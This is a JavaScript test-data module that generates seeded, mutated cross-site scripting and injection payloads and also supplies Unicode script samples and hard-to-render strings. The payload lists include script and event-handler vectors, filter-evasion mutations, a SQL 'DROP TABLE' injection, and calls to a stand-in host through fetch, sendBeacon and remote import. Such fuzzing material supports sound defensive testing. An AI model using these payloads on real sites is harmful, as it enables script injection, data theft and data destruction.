// Text that wants to be a script, built from parts and mutated with a seed, and a sample of every script of Unicode.

/** Mulberry32: the same numbers for the same seed. */
export function random(seed) {
  let state = seed >>> 0;
  return (below) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return Math.floor((((t ^ (t >>> 14)) >>> 0) / 4294967296) * below);
  };
}

const ESCAPES = ['', '"', "'", '">', "'>", '`', '-->', ']]>', '</textarea>', '</title>', '</style>', '</script>', '</option></select>', '{{', '${', '<!--', '\\', '%22%3E', '&quot;>', '*/', "');", '\u2028'];
const DEEDS = ['alert(1)', 'hit=1', 'top.hit=1', "fetch('//hit.example.org')", 'import("//hit.example.org/x.js")', 'confirm`1`', 'self["al"+"ert"](1)', '(()=>{hit=1})()', 'location="//hit.example.org"', 'constructor.constructor("hit=1")()', 'navigator.sendBeacon("//hit.example.org")'];
const SHAPES = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `<script src=//hit.example.org/x.js>${deed}</script>`,
  (deed) => `<img src=x onerror=${deed}>`,
  (deed) => `<img src="//hit.example.org/i.png" onload="${deed}">`,
  (deed) => `<svg/onload=${deed}>`,
  (deed) => `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<math><mtext><mglyph><style><img src=x onerror=${deed}></style>`,
  (deed) => `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
  (deed) => `<a href="javascript:${deed}" autofocus onfocus=${deed}>x</a>`,
  (deed) => `<input autofocus onfocus=${deed}>`,
  (deed) => `<details open ontoggle=${deed}>`,
  (deed) => `<body onload=${deed}>`,
  (deed) => `<object data="data:text/html,<script>${deed}</script>"></object>`,
  (deed) => `<embed src="javascript:${deed}">`,
  (deed) => `<base href="//hit.example.org/">${deed}`,
  (deed) => `<meta http-equiv=refresh content="0;url=javascript:${deed}">`,
  (deed) => `<link rel=stylesheet href=//hit.example.org/x.css>${deed}`,
  (deed) => `<style>@import '//hit.example.org/x.css';*{background:url(javascript:${deed})}</style>`,
  (deed) => `<form action=javascript:${deed}><button autofocus>x</button></form>`,
  (deed) => `<video><source onerror=${deed}>`,
  (deed) => `javascript:${deed}`,
  (deed) => `data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==${deed}`,
  (deed) => `{@html "<img src=x onerror=${deed}>"}`,
  (deed) => `{{${deed}}}`,
  (deed) => `\${${deed}}`,
  (deed) => `';${deed};//`,
  (deed) => `__proto__[x]=${deed}`,
  (deed) => `'; DROP TABLE record;-- ${deed}`,
];
const MUTATE = [
  (t, of) => [...t].map((c) => (of(3) === 0 ? c.toUpperCase() : c)).join(''),
  (t, of) => t.replace(/ /g, ['/', '\t', '\f', '%0a', '/**/', '\u00a0'][of(6)]),
  (t) => t.replace(/</g, '&lt;'),
  (t) => t.replace(/[<>]/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`),
  (t) => encodeURIComponent(t),
  (t, of) => t.slice(0, of(t.length)) + ['\u200b', '\u202e', '\u00ad', '\ufeff', '\u0301', '\ud83d\ude00'][of(6)] + t.slice(of(t.length)),
  (t) => t.replace(/script/gi, 'scr<script>ipt'),
  (t) => `${t}${t}`,
  (t, of) => t.slice(0, of(t.length) + 1),
  (t) => t.replace(/[aeio]/, (c) => `&#${c.charCodeAt(0)};`),
  (t) => t,
  (t) => t,
];

/** One payload, on one line, with nothing at its ends that a form may trim. */
export function payload(of) {
  const pick = (list) => list[of(list.length)];
  let text = pick(ESCAPES) + pick(SHAPES)(pick(DEEDS)) + (of(4) === 0 ? pick(ESCAPES) : '');
  for (let n = of(3); n > 0; n -= 1) text = pick(MUTATE)(text, of);
  return text.replace(/[\r\n\u2028\u2029]/g, ' ').trim().toWellFormed() || 'x';
}

/** So many, no two alike. */
export function payloads(of, count) {
  const made = new Set();
  while (made.size < count) made.add(payload(of));
  return [...made];
}

const SCRIPTS =
  'Adlam Ahom Anatolian_Hieroglyphs Arabic Armenian Avestan Balinese Bamum Bassa_Vah Batak Bengali Bhaiksuki Bopomofo Brahmi Braille Buginese Buhid Canadian_Aboriginal Carian Caucasian_Albanian Chakma Cham Cherokee Chorasmian Common Coptic Cuneiform Cypriot Cypro_Minoan Cyrillic Deseret Devanagari Dives_Akuru Dogra Duployan Egyptian_Hieroglyphs Elbasan Elymaic Ethiopic Georgian Glagolitic Gothic Grantha Greek Gujarati Gunjala_Gondi Gurmukhi Han Hangul Hanifi_Rohingya Hanunoo Hatran Hebrew Hiragana Imperial_Aramaic Inherited Inscriptional_Pahlavi Inscriptional_Parthian Javanese Kaithi Kannada Katakana Kawi Kayah_Li Kharoshthi Khitan_Small_Script Khmer Khojki Khudawadi Lao Latin Lepcha Limbu Linear_A Linear_B Lisu Lycian Lydian Mahajani Makasar Malayalam Mandaic Manichaean Marchen Masaram_Gondi Medefaidrin Meetei_Mayek Mende_Kikakui Meroitic_Cursive Meroitic_Hieroglyphs Miao Modi Mongolian Mro Multani Myanmar Nabataean Nag_Mundari Nandinagari New_Tai_Lue Newa Nko Nushu Nyiakeng_Puachue_Hmong Ogham Ol_Chiki Old_Hungarian Old_Italic Old_North_Arabian Old_Permic Old_Persian Old_Sogdian Old_South_Arabian Old_Turkic Old_Uyghur Oriya Osage Osmanya Pahawh_Hmong Palmyrene Pau_Cin_Hau Phags_Pa Phoenician Psalter_Pahlavi Rejang Runic Samaritan Saurashtra Sharada Shavian Siddham SignWriting Sinhala Sogdian Sora_Sompeng Soyombo Sundanese Syloti_Nagri Syriac Tagalog Tagbanwa Tai_Le Tai_Tham Tai_Viet Takri Tamil Tangsa Tangut Telugu Thaana Thai Tibetan Tifinagh Tirhuta Toto Ugaritic Vai Vithkuqi Wancho Warang_Citi Yezidi Yi Zanabazar_Square'.split(' ');

/** A few characters of each script of Unicode that this program's tables know, by its name. */
export function scripts() {
  let all = '';
  for (let code = 0xa1; code < 0x20000; code += 1) if (code < 0xd800 || code > 0xf8ff) all += String.fromCodePoint(code);
  return SCRIPTS.map((name) => {
    const found = [...all.matchAll(new RegExp(`\\p{Script=${name}}`, 'gu').exec(all) ? new RegExp(`\\p{Script=${name}}`, 'gu') : /$^/gu)];
    const step = Math.max(1, Math.floor(found.length / 6));
    return { name, text: found.filter((_, n) => n % step === 0).slice(0, 6).map((m) => m[0]).join('') };
  });
}

/** What is hard to keep or to show: each by what it is. */
export const HARD = {
  'right to left': 'שלום عليكم 123 سلام',
  'bidi controls': 'a\u202ab\u202bc\u202dd\u202ee\u202cf\u2066g\u2067h\u2068i\u2069j\u200ek\u200fl\u061cm',
  combining: 'e\u0301 é n\u0303 \u0e01\u0e33 \u0915\u094d\u0937',
  zalgo: `H${'\u0300\u0316\u0488\u035c'.repeat(20)}e${'\u030d\u0331'.repeat(30)}l`,
  'zero width': 'a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh',
  'beyond the first plane': '\u{1f600}\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}\u{20000}\u{2fa1d}\u{10fffd}',
  'variation selectors': '\u2764\ufe0f\u2764\ufe0e\u{e0100}',
  'not characters': 'a\ufffeb\uffffc\u{1fffe}d\ufdd0e\ufffdf',
  'private use': 'a\ue000b\uf8ffc',
  'odd spaces': 'a\u00a0b\u1680c\u2003d\u3000e\u205ff',
  'long word': 'Donaudampfschifffahrtsgesellschaftskapitän'.repeat(12),
};
